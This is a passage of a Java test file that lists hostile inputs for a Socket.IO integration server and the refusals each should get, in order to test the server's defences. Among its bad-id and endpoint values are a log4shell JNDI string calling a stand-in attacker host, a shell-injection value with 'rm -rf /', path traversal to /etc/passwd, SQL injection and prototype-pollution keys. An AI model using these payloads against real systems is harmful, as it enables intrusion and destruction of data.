package io.integrationsrealtime.server.hostile;

import static io.integrationsrealtime.server.TestBackend.FOREIGN;
import static io.integrationsrealtime.server.TestBackend.OTHER_PROJECT;
import static io.integrationsrealtime.server.TestBackend.PAYMENTS;
import static io.integrationsrealtime.server.TestBackend.PROJECT;
import static io.integrationsrealtime.server.TestBackend.TWEETS;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.integrationsrealtime.protocol.Events;
import io.integrationsrealtime.server.TestAuth;
import io.integrationsrealtime.server.hostile.Case.Conn;
import io.integrationsrealtime.server.hostile.Case.Handshake;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The table of hostile inputs sent as raw frames. Attackers of the victim's own project only ever
 * touch PAYMENTS, so that the well-behaved client (in TWEETS) can assert it saw nothing of theirs;
 * attackers of another project aim at TWEETS itself.
 */
final class HostileCases {

    static final List<String> REQUESTS = List.of(Events.JOIN, Events.LEAVE, Events.EXECUTE, Events.TEST, Events.STATUS,
            Events.WEBHOOK_SUBSCRIBE, Events.WEBHOOK_UNSUBSCRIBE);
    /** Requests whose success would hand out something of the integration (membership, a run, its status). */
    static final List<String> GRANTING = List.of(Events.JOIN, Events.EXECUTE, Events.TEST, Events.STATUS,
            Events.WEBHOOK_SUBSCRIBE);

    static final String INVALID = "error:INVALID_REQUEST";
    static final String UNAUTH = "error:UNAUTHENTICATED";
    /** A CONNECT without a valid token is answered with a connect_error instead of being connected. */
    static final String[] REFUSED_CONNECTION = {"connect_error:UNAUTHENTICATED", "closed"};
    static final String[] FIRST_REQUEST_REFUSED = {"connected", UNAUTH, "connect_error:UNAUTHENTICATED", "closed"};
    /** Not a packet of the protocol: the server closes the connection, as the reference server does. */
    static final String CLOSED = "closed";

    private HostileCases() {
    }

    static List<Case> all() {
        List<Case> cases = new ArrayList<>();
        malformedJson(cases);
        packets(cases);
        wrongTypes(cases);
        missingFields(cases);
        extraFields(cases);
        oversized(cases);
        invalidIds(cases);
        crossProjectWithoutAck(cases);
        unauthenticated(cases);
        forgedRequestIds(cases);
        return cases;
    }

    // ---------------------------------------------------------------- malformed JSON

    private static void malformedJson(List<Case> cases) {
        String join = "\"integration:join\"";
        String ok = ids(PROJECT, PAYMENTS).toString();
        String[][] bodies = {
                {"unclosed array", "["},
                {"unclosed object", "[" + join + ",{"},
                {"missing value", "[" + join + ",{\"projectId\":}]"},
                {"single quotes", "[" + join + ",{'projectId':'" + PROJECT + "'}]"},
                {"trailing bracket (ignored: the first complete array is read)", "[" + join + "," + ok + "]]"},
                {"NaN literal", "[" + join + ",{\"a\":NaN}]"},
                {"Infinity literal", "[" + join + ",{\"a\":Infinity}]"},
                {"comment", "[" + join + ",{/* hi */\"a\":1}]"},
                {"bad escape", "[" + join + ",{\"a\":\"\\x41\"}]"},
                {"raw control character", "[" + join + ",{\"a\":\"\u0001\"}]"},
                {"unterminated string", "[" + join + ",{\"a\":\"abc}]"},
                {"missing comma", "[" + join + " {\"a\":1}]"},
                {"trailing comma", "[" + join + ",{\"a\":1,}]"},
                {"lone comma", "[" + join + ",{,}]"},
                {"bare word", "undefined"},
                {"bare true", "true"},
                {"bare string", join},
                {"object instead of array", "{" + join + ":" + ok + "}"},
                {"garbage after the array (ignored: the first complete array is read)", "[" + join + "," + ok + "]garbage"},
                {"nesting 5000 deep", "[" + join + ",{\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}]"},
                {"number of 3000 digits", "[" + join + ",{\"a\":" + "9".repeat(3000) + "}]"},
                {"token in a broken payload (log probe)", "[" + join + ",{\"token\":\"" + TestAuth.TOKEN + "\",\"x\":"},
                {"hex number", "[" + join + ",{\"a\":0x10}]"},
                {"leading zero number", "[" + join + ",{\"a\":0012}]"},
                {"empty array (an event without a name)", "[]"},
        };
        for (String[] body : bodies) {
            String expected = body[0].contains("(ignored") ? "ok"
                    // An event whose payload is not a JSON array is not a Socket.IO packet: the connection closes.
                    : !body[1].startsWith("[") ? CLOSED
                    : body[1].equals("[]") ? "error:UNKNOWN_EVENT" : INVALID;
            cases.add(Case.of("malformed JSON", body[0], Conn.OWN, ack -> List.of("42" + ack + body[1]), expected));
        }
        cases.add(Case.of("malformed JSON", "unclosed object, no ack", Conn.OWN,
                ack -> List.of("42[" + join + ",{"), "E:INVALID_REQUEST"));
        cases.add(Case.of("malformed JSON", "bare word, no ack", Conn.OWN, ack -> List.of("42nonsense"), CLOSED));
        // Valid JSON beyond the parser's nesting limit (1000): a typed refusal, the connection stays.
        cases.add(Case.of("malformed JSON", "execute params nested 5000 objects deep", Conn.OWN,
                ack -> List.of("42" + ack + "[\"integration:execute\",{\"projectId\":\"" + PROJECT + "\",\"integrationId\":\""
                        + PAYMENTS + "\",\"endpoint\":\"getUserTweets\",\"params\":" + "{\"a\":".repeat(5000) + "1"
                        + "}".repeat(5000) + "}]"), INVALID));
        cases.add(Case.of("malformed JSON", "lone surrogate escape (valid JSON, bad id)", Conn.OWN,
                ack -> List.of("42" + ack + "[" + join + ",{\"projectId\":\"\\ud800\",\"integrationId\":\"" + PAYMENTS + "\"}]"),
                INVALID));
    }

    // ---------------------------------------------------------------- packet level

    private static void packets(List<Case> cases) {
        String join = ids(PROJECT, PAYMENTS).toString();
        Object[][] frames = {
                // name, frames, expected
                {"empty frame", List.of(""), new String[] {CLOSED}},
                {"engine.io type 7", List.of("7"), new String[] {CLOSED}},
                {"engine.io type x", List.of("x"), new String[] {CLOSED}},
                {"engine.io open from client", List.of("0{}"), new String[] {}},
                {"engine.io upgrade on websocket", List.of("5"), new String[] {}},
                {"engine.io noop", List.of("6"), new String[] {}},
                {"unsolicited pong", List.of("3"), new String[] {}},
                {"ping from client (heartbeats go server to client in v4)", List.of("2"), new String[] {CLOSED}},
                {"probe ping without an upgrade under way", List.of("2probe"), new String[] {CLOSED}},
                {"engine.io close, then a request", List.of("1", "42%d[\"integration:join\"," + join + "]"), new String[] {"closed"}},
                {"socket.io packet without type", List.of("4"), new String[] {CLOSED}},
                {"socket.io type 7", List.of("47"), new String[] {CLOSED}},
                {"socket.io type 9", List.of("49[\"x\"]"), new String[] {CLOSED}},
                {"socket.io type x", List.of("4x"), new String[] {CLOSED}},
                {"socket.io disconnect, then connect again", List.of("41", connect(TestAuth.TOKEN)), new String[] {"connected"}},
                {"ack for an id never sent", List.of("4399[\"x\"]"), new String[] {}},
                {"ack without id", List.of("43[\"x\"]"), new String[] {}},
                {"connect_error from client", List.of("44{\"message\":\"x\"}"), new String[] {}},
                {"binary event awaiting an attachment, then a text packet", List.of("451-[\"integration:join\",{\"_placeholder\":true,\"num\":0}]", "42[\"x\"]"), new String[] {CLOSED}},
                {"binary event with 1000 attachments announced, then a text packet", List.of("451000-[\"integration:join\",{}]", "42[\"x\"]"), new String[] {CLOSED}},
                {"binary ack, then a text packet", List.of("461-[{\"_placeholder\":true,\"num\":0}]", "42[\"x\"]"), new String[] {CLOSED}},
                {"second connect without auth", List.of("40"), new String[] {"connected"}},
                {"second connect with the other project's token re-authenticates", List.of(connect(TestAuth.OTHER_PROJECT_TOKEN),
                        "42%d[\"integration:join\"," + join + "]"), new String[] {"connected", "error:FORBIDDEN"}},
                {"second connect, invalid token", List.of("40{\"token\":\"nope\"}"), new String[] {"connect_error:UNAUTHENTICATED", "closed"}},
                {"connect to an unknown namespace", List.of("40/admin,{\"token\":\"" + TestAuth.TOKEN + "\"}"), new String[] {"connect_error:Invalid namespace"}},
                {"event to an unconnected namespace", List.of("42/admin,[\"integration:join\"," + join + "]"), new String[] {}},
                {"event with a numeric name", List.of("42%d[123," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event with a null name", List.of("42%d[null," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event with an object name", List.of("42%d[{}," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event with an array name", List.of("42%d[[]," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event with an empty name", List.of("42%d[\"\"," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event spoofing the internal unknown-event name", List.of("42%d[\"\\u0000unknown\",\"" + "x".repeat(500) + "\"]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event spoofing the internal invalid-event name", List.of("42%d[\"\\u0000invalid\"]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event with 5000 extra arguments", List.of("42%d[\"integration:join\"," + join + ",1".repeat(5000) + "]"), new String[] {"ok"}},
                {"event name of 10000 characters", List.of("42%d[\"" + "n".repeat(10000) + "\"," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event name in another case", List.of("42%d[\"integration:JOIN\"," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event name with a trailing space", List.of("42%d[\"integration:join \"," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"server-to-client event sent by a client", List.of("42%d[\"integration:joined\"," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"integration:error sent by a client", List.of("42%d[\"integration:error\",{}]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"reserved name connect", List.of("42%d[\"connect\"]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"reserved name disconnect", List.of("42%d[\"disconnect\"]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"event named __proto__", List.of("42%d[\"__proto__\",{}]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"unknown admin-looking event", List.of("42%d[\"integration:delete\"," + join + "]"), new String[] {"error:UNKNOWN_EVENT"}},
                {"unknown event without ack", List.of("42[\"admin:shutdown\",{}]"), new String[] {"E:UNKNOWN_EVENT"}},
                {"request without payload", List.of("42%d[\"integration:join\"]"), new String[] {INVALID}},
                {"binary websocket frame without a binary packet", List.of("\u0001binary"), new String[] {CLOSED}},
                {"binary websocket frame of random bytes", List.of("\u0001\u00ff\u0000\u0013x"), new String[] {CLOSED}},
                {"ack id of 30 digits", List.of("42123456789012345678901234567890[\"integration:join\"," + join + "]"), new String[] {CLOSED}},
                {"negative-looking ack id", List.of("42-1[\"integration:join\"," + join + "]"), new String[] {CLOSED}},
        };
        for (Object[] row : frames) {
            @SuppressWarnings("unchecked")
            List<String> templates = (List<String>) row[1];
            cases.add(Case.of("packets", (String) row[0], Conn.FRESH_OWN,
                    ack -> templates.stream().map(t -> t.replace("%d", Integer.toString(ack))).toList(), (String[]) row[2]));
        }
    }

    // ---------------------------------------------------------------- wrong types

    private static void wrongTypes(List<Case> cases) {
        String[][] payloads = {
                {"a string", "\"" + PAYMENTS + "\""}, {"a number", "123"}, {"true", "true"}, {"null", "null"},
                {"an empty array", "[]"}, {"an array holding the payload", "[" + ids(PROJECT, PAYMENTS) + "]"},
        };
        for (String event : REQUESTS) {
            for (String[] payload : payloads) {
                cases.add(Case.of("wrong types", event + ": payload is " + payload[0], Conn.OWN,
                        ack -> List.of(frame(ack, event, payload[1])), INVALID));
            }
        }
        String[][] values = {
                {"a number", "123"}, {"a float", "1.5"}, {"true", "true"}, {"false", "false"}, {"null", "null"},
                {"an empty array", "[]"}, {"an empty object", "{}"}, {"an array of the id", "[\"" + PAYMENTS + "\"]"},
                {"a mongo operator", "{\"$ne\":null}"}, {"a mongo regex", "{\"$regex\":\".*\"}"},
        };
        for (String field : List.of("projectId", "integrationId")) {
            for (String[] value : values) {
                cases.add(Case.of("wrong types", "status: " + field + " is " + value[0], Conn.OWN,
                        ack -> List.of(frame(ack, Events.STATUS, withRaw(valid(Events.STATUS, PROJECT, PAYMENTS), field, value[1]))),
                        INVALID));
            }
        }
        for (String field : List.of("params", "requestData")) {
            for (String[] value : new String[][] {{"an array", "[1,2]"}, {"a string", "\"x\""}, {"a number", "7"}, {"true", "true"}}) {
                cases.add(Case.of("wrong types", "execute: " + field + " is " + value[0], Conn.OWN,
                        ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), field, value[1]))),
                        INVALID));
            }
        }
        cases.add(Case.of("wrong types", "execute: params is null (read as {})", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params", "null"))), "ok"));
        for (String[] value : new String[][] {{"a number", "123"}, {"an array", "[\"getUserTweets\"]"}, {"an object", "{\"name\":\"getUserTweets\"}"}, {"null", "null"}}) {
            cases.add(Case.of("wrong types", "execute: endpoint is " + value[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "endpoint", value[1]))),
                    INVALID));
        }
        // A requestId must be a JSON string: scalars are refused like structures, not read as their text.
        for (String[] value : new String[][] {{"a number", "12345"}, {"true", "true"}, {"an object", "{}"},
                {"an array", "[\"r-1\"]"}, {"a float", "1.5"}}) {
            cases.add(Case.of("wrong types", "join: requestId is " + value[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.JOIN, withRaw(valid(Events.JOIN, PROJECT, PAYMENTS), "requestId", value[1]))),
                    INVALID));
        }
        for (String[] value : new String[][] {{"negative", "-1"}, {"Long.MAX_VALUE", "9223372036854775807"}, {"beyond a long", "92233720368547758070"}}) {
            cases.add(Case.of("wrong types", "join: lastSeq is " + value[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.JOIN, withRaw(valid(Events.JOIN, PROJECT, PAYMENTS), "lastSeq", value[1]))),
                    value[0].equals("beyond a long") ? INVALID : "ok"));
        }
        // ... and a JSON integer: not its text, a fraction (Jackson would truncate it) or a boolean.
        for (String[] value : new String[][] {{"a string", "\"abc\""}, {"a numeric string", "\"5\""}, {"a fraction", "1.5"},
                {"true", "true"}, {"an object", "{}"}, {"an array", "[]"}}) {
            cases.add(Case.of("wrong types", "join: lastSeq is " + value[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.JOIN, withRaw(valid(Events.JOIN, PROJECT, PAYMENTS), "lastSeq", value[1]))),
                    INVALID));
        }
    }

    // ---------------------------------------------------------------- missing fields

    private static void missingFields(List<Case> cases) {
        for (String event : REQUESTS) {
            cases.add(Case.of("missing fields", event + ": empty object", Conn.OWN, ack -> List.of(frame(ack, event, "{}")), INVALID));
            cases.add(Case.of("missing fields", event + ": no integrationId", Conn.OWN,
                    ack -> List.of(frame(ack, event, without(valid(event, PROJECT, PAYMENTS), "integrationId"))), INVALID));
            cases.add(Case.of("missing fields", event + ": no projectId", Conn.OWN,
                    ack -> List.of(frame(ack, event, without(valid(event, PROJECT, PAYMENTS), "projectId"))), INVALID));
        }
        cases.add(Case.of("missing fields", "execute: no endpoint", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, ids(PROJECT, PAYMENTS).toString())), INVALID));
        cases.add(Case.of("missing fields", "execute: no endpoint, no ack", Conn.OWN,
                ack -> List.of(noAck(Events.EXECUTE, ids(PROJECT, PAYMENTS).toString())), "E:INVALID_REQUEST"));
        cases.add(Case.of("missing fields", "test: no endpoint (documented default healthCheck)", Conn.OWN,
                ack -> List.of(frame(ack, Events.TEST, ids(PROJECT, PAYMENTS).toString())),
                "event:integration:test:started", "error:UPSTREAM_ERROR"));
    }

    // ---------------------------------------------------------------- extra fields

    private static void extraFields(List<Case> cases) {
        String[][] extras = {
                {"isAdmin", "true"}, {"admin", "\"yes\""}, {"__proto__", "{\"isAdmin\":true}"},
                {"constructor", "{\"prototype\":{\"isAdmin\":true}}"}, {"principal", "{\"subject\":\"root\",\"projects\":[\"" + OTHER_PROJECT + "\"]}"},
                {"projects", "[\"" + OTHER_PROJECT + "\"]"}, {"room", "\"integration:" + TWEETS + "\""},
                {"rooms", "[\"integration:" + FOREIGN + "\"]"}, {"to", "\"integration:" + FOREIGN + "\""},
                {"broadcast", "true"}, {"executionId", "\"forged-execution\""}, {"nsp", "\"/admin\""},
                {"sid", "\"00000000-0000-0000-0000-000000000000\""}, {"token", "\"" + TestAuth.OTHER_PROJECT_TOKEN + "\""},
        };
        for (int i = 0; i < extras.length; i++) {
            String[] extra = extras[i];
            String event = i % 2 == 0 ? Events.JOIN : Events.STATUS;
            cases.add(Case.of("extra fields", event + " with extra field " + extra[0], Conn.OWN,
                    ack -> List.of(frame(ack, event, withRaw(valid(event, PROJECT, PAYMENTS), extra[0], extra[1]))), "ok"));
        }
        cases.add(Case.of("extra fields", "execute with extra field integrationIds", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "integrationIds", "[\"" + FOREIGN + "\"]"))), "ok"));
        cases.add(Case.of("extra fields", "join with a second argument naming another project", Conn.OWN,
                ack -> List.of("42" + ack + "[\"integration:join\"," + ids(PROJECT, PAYMENTS) + "," + ids(OTHER_PROJECT, FOREIGN) + "]"), "ok"));
        cases.add(Case.of("extra fields", "duplicate integrationId key, own one last", Conn.OWN,
                ack -> List.of(frame(ack, Events.JOIN, "{\"projectId\":\"" + PROJECT + "\",\"integrationId\":\"" + FOREIGN
                        + "\",\"integrationId\":\"" + PAYMENTS + "\"}")), "ok"));
        cases.add(Case.of("extra fields", "duplicate projectId key, other project last", Conn.OWN,
                ack -> List.of(frame(ack, Events.JOIN, "{\"projectId\":\"" + PROJECT + "\",\"projectId\":\"" + OTHER_PROJECT
                        + "\",\"integrationId\":\"" + FOREIGN + "\"}")), "error:FORBIDDEN"));
    }

    // ---------------------------------------------------------------- oversized

    private static void oversized(List<Case> cases) {
        // The suite's server accepts 4096-byte payloads and closes on frames over 16 x 4096 bytes.
        for (String event : REQUESTS) {
            cases.add(Case.of("oversized", event + ": 5 KB field", Conn.OWN,
                    ack -> List.of(frame(ack, event, withRaw(valid(event, PROJECT, PAYMENTS), "padding", "\"" + "x".repeat(5000) + "\""))),
                    "error:PAYLOAD_TOO_LARGE"));
        }
        cases.add(Case.of("oversized", "execute: 60 KB params, no ack", Conn.OWN,
                ack -> List.of(noAck(Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params", "{\"blob\":\"" + "x".repeat(60_000) + "\"}"))),
                "E:PAYLOAD_TOO_LARGE"));
        cases.add(Case.of("oversized", "execute: 3000 small keys", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params", manyKeys(3000)))),
                "error:PAYLOAD_TOO_LARGE"));
        cases.add(Case.of("oversized", "execute: array of 5000 numbers", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "requestData",
                        "{\"a\":[" + "1,".repeat(4999) + "1]}"))), "error:PAYLOAD_TOO_LARGE"));
        cases.add(Case.of("oversized", "execute: deep but legal nesting (900 levels)", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params",
                        "{\"a\":" + "[".repeat(900) + "]".repeat(900) + "}"))), "ok"));
        cases.add(Case.of("oversized", "frame of 70 KB (over 16 x payload limit)", Conn.FRESH_OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params", "{\"blob\":\"" + "x".repeat(70_000) + "\"}"))),
                "closed"));
        cases.add(Case.of("oversized", "frame of 2 MB", Conn.FRESH_OWN,
                ack -> List.of("42" + ack + "[\"integration:join\",\"" + "x".repeat(2_000_000) + "\"]"), "closed"));
        // The limit counts UTF-8 bytes: 2,000 characters of 3 bytes, 1,100 of 4 (surrogate pairs).
        cases.add(Case.of("oversized", "execute: 2,000 x '€' (6,000 bytes of UTF-8)", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params",
                        "{\"s\":\"" + "€".repeat(2000) + "\"}"))), "error:PAYLOAD_TOO_LARGE"));
        cases.add(Case.of("oversized", "execute: 1,100 emoji in a key and a value (4,400 bytes of UTF-8)", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, withRaw(valid(Events.EXECUTE, PROJECT, PAYMENTS), "params",
                        "{\"" + "😀".repeat(550) + "\":\"" + "😀".repeat(550) + "\"}"))), "error:PAYLOAD_TOO_LARGE"));
        cases.add(Case.of("oversized", "unknown event with a 60 KB payload", Conn.OWN,
                ack -> List.of(frame(ack, "integration:upload", "{\"blob\":\"" + "x".repeat(60_000) + "\"}")), "error:UNKNOWN_EVENT"));
    }

    // ---------------------------------------------------------------- invalid ids

    static final String[][] BAD_IDS = {
            {"empty", ""}, {"blank", " "}, {"uppercase hex", PAYMENTS.toUpperCase()},
            {"23 characters", PAYMENTS.substring(1)}, {"25 characters", PAYMENTS + "0"}, {"non-hex letters", "g".repeat(24)},
            {"leading space", " " + PAYMENTS.substring(1)}, {"trailing newline", PAYMENTS + "\n"}, {"trailing NUL", PAYMENTS + "\u0000"},
            {"path traversal", "../../../../etc/passwd"}, {"SQL injection", "' OR '1'='1' --"}, {"mongo operator text", "{\"$ne\":null}"},
            {"room name", "integration:" + PAYMENTS}, {"webhook room suffix", PAYMENTS + ":webhooks"}, {"wildcard", "*"},
            {"0x prefix", "0x" + PAYMENTS.substring(2)}, {"fullwidth digits", "\uff16\uff14" + PAYMENTS.substring(2)},
            {"arabic-indic digits", "\u0666\u0664" + PAYMENTS.substring(2)}, {"zero-width space", PAYMENTS.substring(0, 12) + "\u200b" + PAYMENTS.substring(13)},
            {"right-to-left override", "\u202e" + PAYMENTS.substring(1)}, {"the word null", "null"}, {"the word undefined", "undefined"},
            {"1000 characters", "a".repeat(1000)}, {"log4shell string", "${jndi:ldap://attacker.test/a}"},
            {"CRLF log injection", PAYMENTS.substring(0, 10) + "\r\nINFO forged"},
    };

    private static void invalidIds(List<Case> cases) {
        for (String[] bad : BAD_IDS) {
            cases.add(Case.of("invalid ids", "join: projectId " + bad[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.JOIN, with(valid(Events.JOIN, PROJECT, PAYMENTS), "projectId", bad[1]))), INVALID));
            cases.add(Case.of("invalid ids", "join: integrationId " + bad[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.JOIN, with(valid(Events.JOIN, PROJECT, PAYMENTS), "integrationId", bad[1]))), INVALID));
        }
        for (int i = 0; i < BAD_IDS.length; i++) {
            String[] bad = BAD_IDS[i];
            String event = REQUESTS.get(i % REQUESTS.size());
            if (event.equals(Events.JOIN)) {
                event = Events.WEBHOOK_SUBSCRIBE;
            }
            String target = event;
            boolean withAck = i % 2 == 0;
            cases.add(Case.of("invalid ids", target + (withAck ? "" : " (no ack)") + ": integrationId " + bad[0], Conn.OWN,
                    ack -> List.of(withAck ? frame(ack, target, with(valid(target, PROJECT, PAYMENTS), "integrationId", bad[1]))
                            : noAck(target, with(valid(target, PROJECT, PAYMENTS), "integrationId", bad[1]))),
                    withAck ? INVALID : "E:INVALID_REQUEST"));
        }
        String[][] endpoints = {
                {"empty", ""}, {"leading digit", "1abc"}, {"leading underscore", "_private"}, {"leading dash", "-x"},
                {"space", "get User"}, {"slash", "a/b"}, {"path traversal", "../etc/passwd"}, {"65 characters", "a".repeat(65)},
                {"accented letter", "gét"}, {"trailing newline", "getUserTweets\n"}, {"NUL", "getUserTweets\u0000"},
                {"shell injection", "a;rm -rf /"}, {"html", "<script>"}, {"log4shell string", "${jndi:ldap://attacker.test/a}"},
                {"__proto__", "__proto__"}, {"trailing space", "getUserTweets "},
        };
        for (String[] endpoint : endpoints) {
            cases.add(Case.of("invalid ids", "execute: endpoint " + endpoint[0], Conn.OWN,
                    ack -> List.of(frame(ack, Events.EXECUTE, with(valid(Events.EXECUTE, PROJECT, PAYMENTS), "endpoint", endpoint[1]))), INVALID));
        }
        for (String endpoint : List.of("getUserTweets", "HEALTHCHECK", "healthcheck", "healthCheck ", "")) {
            cases.add(Case.of("invalid ids", "test: endpoint '" + endpoint + "'", Conn.OWN,
                    ack -> List.of(frame(ack, Events.TEST, with(ids(PROJECT, PAYMENTS), "endpoint", endpoint))), INVALID));
        }
        cases.add(Case.of("invalid ids", "execute: endpoint that throws with a secret message", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, with(valid(Events.EXECUTE, PROJECT, PAYMENTS), "endpoint", "throws"))), "error:INTERNAL"));
        cases.add(Case.of("invalid ids", "execute: well-formed endpoint the backend lacks (constructor)", Conn.OWN,
                ack -> List.of(frame(ack, Events.EXECUTE, with(valid(Events.EXECUTE, PROJECT, PAYMENTS), "endpoint", "constructor"))), "error:NOT_FOUND"));
        cases.add(Case.of("invalid ids", "join: well-formed id of no integration", Conn.OWN,
                ack -> List.of(frame(ack, Events.JOIN, ids(PROJECT, "0".repeat(24)).toString())), "error:NOT_FOUND"));
        cases.add(Case.of("invalid ids", "join: well-formed id of no project", Conn.OWN,
                ack -> List.of(frame(ack, Events.JOIN, ids("f".repeat(24), PAYMENTS).toString())), "error:FORBIDDEN"));
    }

    // ---------------------------------------------------------------- cross-project, as caller events

    private static void crossProjectWithoutAck(List<Case> cases) {
        for (String event : REQUESTS) {
            boolean granting = GRANTING.contains(event);
            cases.add(Case.of("cross-project", "other project's token, no ack: " + event + " TWEETS", Conn.OTHER,
                    ack -> List.of(noAck(event, valid(event, PROJECT, TWEETS))),
                    granting ? "E:FORBIDDEN" : "event:" + callerEvent(event)));
        }
        // Asking for a replay of our rooms' history (lastSeq) does not get past authorization.
        for (String event : List.of(Events.JOIN, Events.WEBHOOK_SUBSCRIBE)) {
            cases.add(Case.of("cross-project", "other project's token asks a replay: " + event + " TWEETS with lastSeq 0", Conn.OTHER,
                    ack -> List.of(frame(ack, event, valid(event, PROJECT, TWEETS).put("lastSeq", 0))), "error:FORBIDDEN"));
            cases.add(Case.of("cross-project", "other project's token asks a replay: " + event + " FOREIGN-in-our-project with lastSeq 0", Conn.OTHER,
                    ack -> List.of(frame(ack, event, valid(event, PROJECT, FOREIGN).put("lastSeq", 0))), "error:FORBIDDEN"));
        }
        // The other project's own integration, in a request naming our project: not found, not forbidden-then-allowed.
        for (String event : GRANTING) {
            cases.add(Case.of("cross-project", "own token, other project's integration under own projectId: " + event, Conn.OWN,
                    ack -> List.of(frame(ack, event, valid(event, PROJECT, FOREIGN))), "error:NOT_FOUND"));
        }
    }

    // ---------------------------------------------------------------- unauthenticated

    private static void unauthenticated(List<Case> cases) {
        String c = "unauthenticated";
        // A CONNECT without a token is refused at once; what follows it reaches no namespace.
        for (String event : REQUESTS) {
            cases.add(Case.fresh(c, "no token: " + event, Handshake.NONE,
                    ack -> List.of("40", frame(ack, event, valid(event, PROJECT, PAYMENTS))), REFUSED_CONNECTION));
            cases.add(Case.fresh(c, "no token, no ack: " + event, Handshake.NONE,
                    ack -> List.of("40", noAck(event, valid(event, PROJECT, PAYMENTS))), REFUSED_CONNECTION));
            cases.add(Case.fresh(c, "expired token: " + event, Handshake.NONE,
                    ack -> List.of(connect(TestAuth.EXPIRED_TOKEN), frame(ack, event, valid(event, PROJECT, PAYMENTS))),
                    "connected", UNAUTH, "connect_error:UNAUTHENTICATED", "closed"));
        }
        cases.add(Case.fresh(c, "no token: unknown event", Handshake.NONE,
                ack -> List.of("40", frame(ack, "integration:delete", "{}")), REFUSED_CONNECTION));
        cases.add(Case.fresh(c, "no token: malformed JSON", Handshake.NONE,
                ack -> List.of("40", "42" + ack + "[\"integration:join\",{"), REFUSED_CONNECTION));
        // Before any CONNECT no namespace is connected (Socket.IO v5): requests are dropped unanswered,
        // and the transport is closed after the auth timeout.
        cases.add(Case.fresh(c, "no token: request before the namespace CONNECT (dropped, then the CONNECT refused)", Handshake.NONE,
                ack -> List.of(frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS)), "40"), REFUSED_CONNECTION));
        cases.add(Case.fresh(c, "no token: execute before the namespace CONNECT (dropped, then the CONNECT refused)", Handshake.NONE,
                ack -> List.of(frame(ack, Events.EXECUTE, valid(Events.EXECUTE, PROJECT, PAYMENTS)), "40"), REFUSED_CONNECTION));
        cases.add(Case.fresh(c, "valid token, but the request is sent before the CONNECT carrying it (dropped)", Handshake.NONE,
                ack -> List.of(frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS)), connect(TestAuth.TOKEN)), "connected"));
        cases.add(Case.fresh(c, "invalid token, request sent right behind the CONNECT", Handshake.NONE,
                ack -> List.of("40{\"token\":\"nope\"}", frame(ack, Events.JOIN, valid(Events.JOIN, PROJECT, PAYMENTS))), REFUSED_CONNECTION));
        cases.add(Case.fresh(c, "malformed CONNECT with a token in it (log probe)", Handshake.NONE,
                ack -> List.of("40{\"token\":\"" + TestAuth.TOKEN + "\"}x"), CLOSED));
        String[][] auths = {
                {"unknown token", "{\"token\":\"nope\"}"}, {"empty token", "{\"token\":\"\"}"},
                {"token with leading space", "{\"token\":\" " + TestAuth.TOKEN + "\"}"}, {"token with trailing space", "{\"token\":\"" + TestAuth.TOKEN + " \"}"},
                {"token in upper case", "{\"token\":\"" + TestAuth.TOKEN.toUpperCase() + "\"}"}, {"Bearer prefix in payload", "{\"token\":\"Bearer " + TestAuth.TOKEN + "\"}"},
                {"token of 100 KB", "{\"token\":\"" + "t".repeat(100_000) + "\"}"}, {"token with NUL", "{\"token\":\"" + TestAuth.TOKEN + "\\u0000\"}"},
                {"token as number", "{\"token\":123}"}, {"token null", "{\"token\":null}"}, {"token as array", "{\"token\":[\"" + TestAuth.TOKEN + "\"]}"},
                {"token as object", "{\"token\":{\"token\":\"" + TestAuth.TOKEN + "\"}}"}, {"token as true", "{\"token\":true}"},
                {"auth is a string", "\"" + TestAuth.TOKEN + "\""}, {"auth is an array", "[\"" + TestAuth.TOKEN + "\"]"},
